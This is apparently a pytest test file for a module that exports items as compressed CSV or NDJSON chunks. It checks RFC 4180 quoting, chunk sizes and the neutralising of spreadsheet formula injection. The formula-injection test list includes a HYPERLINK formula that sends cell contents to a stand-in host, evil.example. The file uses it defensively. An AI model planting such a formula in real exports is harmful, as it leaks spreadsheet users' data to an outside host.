"""The files of exports, before they are stored."""

import csv
import io
import json
import zlib
from collections.abc import Sequence
from datetime import UTC, datetime
from typing import Any
from uuid import UUID

import pytest
from pydantic_core import to_json

from app.business import export_file
from app.business.export_file import CHUNK_BYTES, COLUMNS, Chunk, Format, Part
from app.schemas.item import ItemRead

TIME = datetime(2026, 11, 25, 17, 51, 19, 120, tzinfo=UTC)
TEXTS = [
    "plain",
    "",
    "a,b",
    'a "quoted" one',
    "two\nlines",
    "two\r\nlines",
    " edges ",
    "Grüße, 世界 🎉",
    "\x01",
    "1-1",
    "a@b.example",
    "'quoted'",
]


def item(number: int = 0, **values: Any) -> dict[str, Any]:
    return {
        "id": UUID(int=number),
        "name": f"item {number}",
        "description": None,
        "tags": [],
        "version": 1,
        "created_at": TIME,
        "updated_at": TIME.replace(microsecond=0),
        **values,
    }


def written(kind: Format, items: Sequence[dict[str, Any]]) -> tuple[Part, list[Chunk], bytes]:
    """A file of these items in one part, its chunks, and what is in them."""
    part = Part(kind, start=0)
    chunks = [*part.add(items[:1]), *part.add(items[1:]), *part.finish()]
    return part, chunks, b"".join(zlib.decompress(chunk.data) for chunk in chunks)


def test_columns_of_an_export_are_the_fields_of_an_item() -> None:
    assert tuple(ItemRead.model_fields) == COLUMNS


class TestNdjson:
    def test_ndjson_has_a_line_for_each_item_as_the_api_shows_it(self) -> None:
        items = [item(number, name=text, description=text, tags=[text]) for number, text in enumerate(TEXTS)]

        _, _, content = written("ndjson", items)

        assert content.split(b"\n") == [
            *(to_json(ItemRead.model_validate(values).model_dump()) for values in items),
            b"",
        ]

    def test_ndjson_without_items_is_empty(self) -> None:
        part, chunks, _ = written("ndjson", [])

        assert chunks == []
        assert (part.item_count, part.stop) == (0, 0)


class TestCsv:
    def test_csv_round_trips_every_text(self) -> None:
        items = [item(number, name=text, description=text, tags=[text, text]) for number, text in enumerate(TEXTS)]

        _, _, content = written("csv", items)

        rows = list(csv.DictReader(io.StringIO(content.decode(), newline=""), strict=True))
        assert [(row["name"], row["description"], json.loads(row["tags"])) for row in rows] == [
            (text, text, [text, text]) for text in TEXTS
        ]

    @pytest.mark.parametrize(
        "text",
        [
            "=1+1",
            '=HYPERLINK("https://evil.example/?"&A1,"a")',
            "+1",
            "-1+1",
            "-",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "\uff1d1+1",
            "\uff0b1",
            "\uff0d1",
            "\uff20a",
            "=1,2",
            " =1",
            "  -1",
            "\u3000=1",
            "\xa0@a",
            "\v+1",
        ],
    )
    def test_text_that_begins_like_a_formula_is_a_text_to_spreadsheets(self, text: str) -> None:
        _, _, content = written("csv", [item(name=text, description=text, tags=[text])])
        _, _, raw = written("ndjson", [item(name=text, description=text, tags=[text])])

        (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""), strict=True)
        assert (row["name"], row["description"]) == (f"'{text}", f"'{text}")
        assert json.loads(row["tags"]) == [text]
        assert json.loads(raw)["name"] == text

    def test_number_in_a_csv_stays_a_number(self) -> None:
        _, _, content = written("csv", [item(version=-7)])

        (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
        assert row["version"] == "-7"

    def test_csv_follows_rfc_4180(self) -> None:
        _, _, content = written("csv", [item(1), item(2, name='a "b", c', tags=["x", 'y"'])])

        times = "2026-11-25T17:51:19.000120Z,2026-11-25T17:51:19Z"
        assert content.decode().split("\r\n") == [
            "id,name,description,tags,version,created_at,updated_at",
            f"00000000-0000-0000-0000-000000000001,item 1,,[],1,{times}",
            f'00000000-0000-0000-0000-000000000002,"a ""b"", c",,"[""x"",""y\\""""]",1,{times}',
            "",
        ]

    def test_csv_without_items_has_a_header(self) -> None:
        _, _, content = written("csv", [])

        assert content == b"id,name,description,tags,version,created_at,updated_at\r\n"


@pytest.mark.parametrize("kind", ["ndjson", "csv"])
class TestChunks:
    def test_chunks_are_all_of_one_size_but_the_last(self, kind: Format) -> None:
        items = [item(number, description="x" * 10_000) for number in range(100)]

        part, chunks, content = written(kind, items)

        assert len(chunks) > 3
        assert [chunk.size for chunk in chunks[:-1]] == [CHUNK_BYTES] * (len(chunks) - 1)
        assert [chunk.start for chunk in chunks] == [number * CHUNK_BYTES for number in range(len(chunks))]
        assert [len(zlib.decompress(chunk.data)) for chunk in chunks] == [chunk.size for chunk in chunks]
        assert (part.item_count, part.stop) == (100, len(content))

    def test_chunks_are_returned_as_soon_as_they_are_full(self, kind: Format, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(export_file, "CHUNK_BYTES", 100)
        part = Part(kind, start=0)

        chunks = part.add([item(description="x" * 1000)])

        assert len(chunks) >= 10
        assert sum(chunk.size for chunk in part.finish()) < 100

    def test_part_goes_on_where_the_last_one_stopped(self, kind: Format) -> None:
        items = [item(number) for number in range(4)]
        _, _, whole = written(kind, items)
        first, _, head = written(kind, items[:2])

        second = Part(kind, start=first.stop)
        (chunk,) = [*second.add(items[2:]), *second.finish()]

        assert (chunk.start, head + zlib.decompress(chunk.data)) == (len(head), whole)
        assert (second.item_count, second.stop) == (2, len(whole))

    def test_file_that_fills_its_last_chunk_has_no_empty_chunk(
        self, kind: Format, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        _, _, content = written(kind, [item()])
        monkeypatch.setattr(export_file, "CHUNK_BYTES", len(content))

        _, chunks, _ = written(kind, [item()])

        assert [(chunk.start, chunk.size) for chunk in chunks] == [(0, len(content))]
